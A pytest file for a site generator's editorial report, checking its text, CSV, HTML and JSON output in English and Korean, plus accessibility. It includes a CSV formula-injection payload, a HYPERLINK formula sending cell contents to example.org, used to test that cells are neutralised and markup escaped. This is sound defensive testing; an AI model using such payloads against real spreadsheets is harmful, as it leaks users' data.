"""The report as text, as a table, as a page and as JSON, each read by a program that is not our own."""

import csv
import json
from collections.abc import Iterator
from datetime import datetime
from html.parser import HTMLParser
from pathlib import Path

import pytest
from axe_playwright_python.sync_playwright import Axe
from msgspec import structs
from playwright.sync_api import Browser, Page

from sitegen.desk import FORMS, Report, Weight, report
from sitegen.speech import ENGLISH, Language, language
from tests.in_memory import assembly_of
from tests.pages import document, text, words_in
from tests.sites import CAMPAIGN, NOON

KOREAN = language("ko")
HOSTILE = '=HYPERLINK("https://example.org/?"&A1,"<b>Click</b>")'
EMBARGOED = f"""
-- content/tasks/night-trams.ko.md --
---
title: '{HOSTILE}'
summary: 밤에도 다닙니다.
benefit: 집에 갑니다.
expected_result: 다닙니다.
lead_agency: forest-service
strategy: plan
due_on: 2026-05
status: planned
publish_at: 2026-05-01T09:00
expires_at: 2026-07-01T18:00
---
"""
REPORT_ON_IT = (
    "Add a report to content/tasks/night-trams.updates.yaml, with the outcome or with a new due date and why."
)
AXE_OPTIONS = {"runOnly": ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]}


def made(added: str = EMBARGOED) -> Report:
    """Return the report on the campaign with a task that is late, and two pages weighed."""
    (assembly, _), now = assembly_of(CAMPAIGN + added), datetime.fromisoformat(NOON)
    weights = Weight("en/index.html", 10_319, 4_380), Weight("index.html", 9_000, 3_061)
    return report(assembly, assembly.at(now), now, weights, limit=100, is_whole=True)


REPORT = made()
EMPTY = structs.replace(REPORT, findings=(), heaviest=(), next_change=None)


def table(spoken: Language = ENGLISH) -> list[dict[str, str]]:
    """Return the rows of the table as a spreadsheet program reads them."""
    data = FORMS["csv"](REPORT, spoken).encode()
    return list(csv.DictReader(data.decode("utf-8-sig").split("\r\n"), strict=True))


def test_the_text_begins_with_when_the_site_changes_next() -> None:
    """Then follows how much there is to do, and everything of each agency, with what to do about it."""
    lines = FORMS["text"](REPORT, ENGLISH).splitlines()
    assert [
        "Editorial desk: Trial campaign, as of 5 June 2026 12:00",
        "next scheduled change at 1 July 2026 18:00",
        f"Things to do or to know: {len(REPORT.findings)}",
    ] == lines[:3]
    at = lines.index("숲관리청 (5)")
    assert [
        f"  Overdue (2026-05-31): {HOSTILE}",
        "    content/tasks/night-trams.ko.md",
        f"    The due date (2026-05) passed 5 days ago. {REPORT_ON_IT}",
    ] == lines[at + 1 : at + 4]
    assert "  en/index.html: 10319 bytes, 4380 of them HTML" == lines[-2]


def test_the_text_in_korean_names_agencies_and_things_in_korean() -> None:
    """And the sorts of what there is to do."""
    said = FORMS["text"](REPORT, KOREAN)
    assert "편집 현황: 시험 캠페인, 기준 시각: 2026년 6월 5일 12:00\n다음 변경 예정: 2026년 7월 1일 18:00\n" in said
    assert "에너지청 (" in said
    assert "번역 확인 기록 없음 (en): 햇빛 지붕" in said


def test_the_table_opens_in_a_spreadsheet_program() -> None:
    """It has the mark by which Excel knows UTF-8, the line breaks of RFC 4180 only, and as many cells in every row."""
    data = FORMS["csv"](REPORT, KOREAN).encode()
    assert data.startswith(b"\xef\xbb\xbf" + "담당 기관,할 일,제목,언어,날짜,파일,설명\r\n".encode())
    assert data.count(b"\n") == data.count(b"\r\n") == 1 + len(REPORT.findings) + len(REPORT.heaviest)
    assert {7} == {len(row) for row in csv.reader(data.decode("utf-8-sig").split("\r\n")[:-1], strict=True)}


def test_the_table_has_a_row_for_every_finding() -> None:
    """With the agency in each, so that it can be sorted and sent in parts."""
    rows = table()
    late = next(row for row in rows if row["To do"] == "Overdue")
    assert ("숲관리청", "2026-05-31", "content/tasks/night-trams.ko.md") == (late["Agency"], late["Date"], late["File"])
    assert ["Heaviest pages"] * 2 == [row["To do"] for row in rows[len(REPORT.findings) :]]


@pytest.mark.parametrize("title", ["=1+1", "+82", "-5", "@now", "＝1", "\t=1", HOSTILE])  # noqa: RUF001  # wide
def test_no_cell_is_a_formula(title: str) -> None:
    """What begins like one is marked as text, and stands there as it was otherwise."""
    finding = structs.replace(REPORT.findings[0], title={"ko": title})
    data = FORMS["csv"](structs.replace(REPORT, findings=(finding,)), KOREAN)
    row = list(csv.reader(data.split("\r\n")))[1]
    assert f"'{title}" == row[2]


def test_the_json_is_for_programs() -> None:
    """Sorts, ids and moments are the same in every language; what is not there is null."""
    told = json.loads(FORMS["json"](REPORT, KOREAN))
    assert ("2026-06-05T12:00+09:00", "2026-07-01T18:00+09:00", True) == (
        told["as_of"], told["next_change"], told["is_whole"],
    )  # fmt: skip
    late = next(each for each in told["findings"] if each["sort"] == "overdue")
    assert {"owner": "forest-service", "kind": "task", "id": "night-trams", "language": None} == {
        name: late[name] for name in ("owner", "kind", "id", "language")
    }
    assert {"path": "en/index.html", "total": 10319, "html": 4380} == told["heaviest"][0]
    assert json.loads(FORMS["json"](EMPTY, KOREAN))["next_change"] is None


@pytest.mark.parametrize("form", sorted(FORMS))
def test_every_form_is_made_of_nothing_too(form: str) -> None:
    """A site with nothing to do and nothing ahead has a report that says so."""
    said = FORMS[form](EMPTY, ENGLISH)
    assert {"text": "Nothing needs a person.", "html": "Nothing needs a person.", "json": "[]", "csv": "Agency"}[
        form
    ] in said
    assert "None" not in said


def test_the_page_needs_nothing_else() -> None:
    """No script, no style, picture or font from elsewhere; and no words of the content become marks of it."""
    page = FORMS["html"](REPORT, ENGLISH)
    found = _Found()
    found.feed(page)
    assert not {"script", "link", "img", "iframe", "b"} & found.tags
    assert HOSTILE in text(page.encode())
    assert "url(" not in page


@pytest.mark.parametrize("spoken", [KOREAN, ENGLISH], ids=lambda spoken: spoken.code)
def test_the_page_has_a_table_for_each_agency(spoken: Language) -> None:
    """Under its name, which the list at the top leads to; the page says that it is not for publishing."""
    page = document(FORMS["html"](REPORT, spoken).encode())
    assert spoken.code == page.get("lang")
    names = [words_in(heading) for heading in page.iter("h2")]
    links = [link.get("href") for link in page.iter("a")]
    assert [f"#{heading.get('id')}" for heading in page.iter("h2")][: len(links)] == links
    assert len(REPORT.by_owner) == len(links) == len(names) - 1
    assert len(REPORT.findings) + 2 == len(list(page.iterfind(".//tbody/tr")))
    assert {"ko": "누리집에 올리지 마십시오", "en": "Do not put it on the site"}[spoken.code] in words_in(page)


def test_words_in_another_language_are_marked_on_the_page() -> None:
    """A title that exists in Korean only, and the name of an agency that is known in Korean only."""
    page = document(FORMS["html"](REPORT, ENGLISH).encode())
    marked = {words_in(element) for element in page.iter() if element.get("lang") == "ko"}
    assert {HOSTILE, "숲관리청"} == marked


@pytest.fixture
def page(browser: Browser, tmp_path: Path) -> Iterator[Page]:
    """The page opened from a disk, in a narrow and dark window."""
    file = tmp_path / "report.html"
    file.write_text(FORMS["html"](REPORT, KOREAN), encoding="utf-8")
    opened = browser.new_page(viewport={"width": 320, "height": 700}, color_scheme="dark")
    opened.goto(file.as_uri())
    yield opened
    opened.close()


@pytest.mark.parametrize("width", [320, 1280])
@pytest.mark.parametrize("theme", ["light", "dark"])
def test_axe_finds_nothing_on_the_page(page: Page, width: int, theme: str) -> None:
    """Narrow or wide, light or dark; and nothing scrolls sideways."""
    page.set_viewport_size({"width": width, "height": 900})
    page.emulate_media(color_scheme="dark" if theme == "dark" else "light")
    results = Axe().run(page, options=AXE_OPTIONS)
    assert results.violations_count == 0, results.generate_report()
    assert width >= page.evaluate("document.documentElement.scrollWidth")


class _Found(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()

    def handle_starttag(self, tag: str, attrs: object) -> None:
        """Note a tag."""
        del attrs
        self.tags.add(tag)
